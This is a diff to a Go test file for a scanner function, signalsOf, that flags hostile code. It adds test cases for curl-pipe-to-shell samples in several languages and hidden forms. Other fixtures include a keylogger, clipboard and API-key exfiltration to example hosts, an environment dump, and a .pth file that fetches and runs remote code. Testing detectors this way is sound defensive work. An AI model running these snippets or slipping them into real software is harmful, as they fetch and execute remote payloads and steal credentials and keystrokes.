@@ -53,6 +53,13 @@ func TestFlows(t *testing.T) {
 		{"the clipboard", "py", "import pyperclip, requests\nrequests.post('https://x.example', data=pyperclip.paste())", "send clipboard"},
 		{"keys", "py", "from pynput import keyboard\nimport requests\nlog = []\ndef on_press(key):\n    log.append(str(key))\n    requests.post('https://x.example', data=''.join(log))\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()", "sabotage keylogger"},
 		{"several keys", "py", "import os, httpx\nNAMES = ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY']\nhttpx.post('https://keys.example/check', json={n: os.getenv(n) for n in NAMES})", "AWS_SECRET_ACCESS_KEY in"},
+		{"a function for each of its arguments", "py", "import os\ndef run(c, s='sh'):\n    os.system(c + ' | ' + s)\nrun('curl -s http://203.0.113.9/a')\nrun('curl -s http://203.0.113.9/b', s='bash')", "sh: curl -s http://203.0.113.9/b | bash"},
+		{"a function that is defined later", "js", "start('curl -s http://203.0.113.9/i | sh');\nfunction start(c) { require('child_process').execSync(c) }", "sh: curl -s http://203.0.113.9/i | sh"},
+		{"a function without an end", "py", "import os\ndef a(x):\n    return b(x)\ndef b(x):\n    os.system(x)\n    return a(x)\na('curl -s http://203.0.113.9/i | sh')", "sh: curl -s http://203.0.113.9/i | sh"},
+		{"everything of a module", "py", "from os import *\nsystem('curl -s http://203.0.113.9/i | sh')", "sh: curl -s http://203.0.113.9/i | sh"},
+		{"a program of a thread", "py", "import os, threading\nthreading.Thread(target=os.system, args=('curl -s http://203.0.113.9/i | sh',)).start()", "sh: curl -s http://203.0.113.9/i | sh"},
+		{"a module by another name", "go", "package main\n\nimport (\n\te \"os/exec\"\n)\n\nfunc run(cmd string) { e.Command(\"sh\", \"-c\", cmd).Run() }\n\nfunc main() { run(\"curl -s http://203.0.113.9/i | sh\") }\n", "sh: sh -c 'curl -s http://203.0.113.9/i | sh'"},
+		{"a module by another name", "rs", "use std::process::Command as C;\nfn main() { C::new(\"sh\").arg(\"-c\").arg(\"curl -s http://203.0.113.9/i | sh\").spawn(); }", "sh: sh -c 'curl -s http://203.0.113.9/i | sh'"},
 		{"a notebook", "py", "!curl http://203.0.113.9/x | sh\nx = 1", "sh: curl http://203.0.113.9/x | sh"},
 		{"names in brackets", "py", "import importlib\nnet = importlib.import_module(''.join(['re', 'quests']))\nimport os\ngetattr(net, 'po' + 'st')('https://x.example/v1', json=dict(os.environ))", "obfuscated name"},
 		{"a file for the start of Python", "py", "lines = []\nlines.append(\n    \"import os; exec(__import__('zlib').decompress(__import__('urllib.request')\"\n    \".request.urlopen('https://x.example/ca.z').read()))\"\n)\nopen('x.pth', 'w').write(lines[0])", "run decoded evaluated network"},
@@ -114,6 +121,7 @@ func TestFlows(t *testing.T) {
 		{"do shell script", "scpt", "set u to \"http://203.0.113.9/i\"\ndo shell script \"curl -s \" & u & \" | sh\" with administrator privileges", "sh: curl -s http://203.0.113.9/i | sh"},
 		{"Run", "vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"curl -s http://203.0.113.9/i\", 0, True ' run it", "sh: curl -s http://203.0.113.9/i"},
 		{"system", "r", "x <- 'http://203.0.113.9/i'\nsystem(paste0('curl -s ', x, ' | sh'))", "sh: curl -s http://203.0.113.9/i | sh"},
+		{"a file that is a URL", "r", "eval(parse(text = readLines(file = 'http://203.0.113.9/i.R')))", "run ip evaluated network"},
 		{"source", "r", "source('http://203.0.113.9/i.R')", "run ip loaded network plain"},
 	} {
 		got := signalsOf(c.lang, c.src)
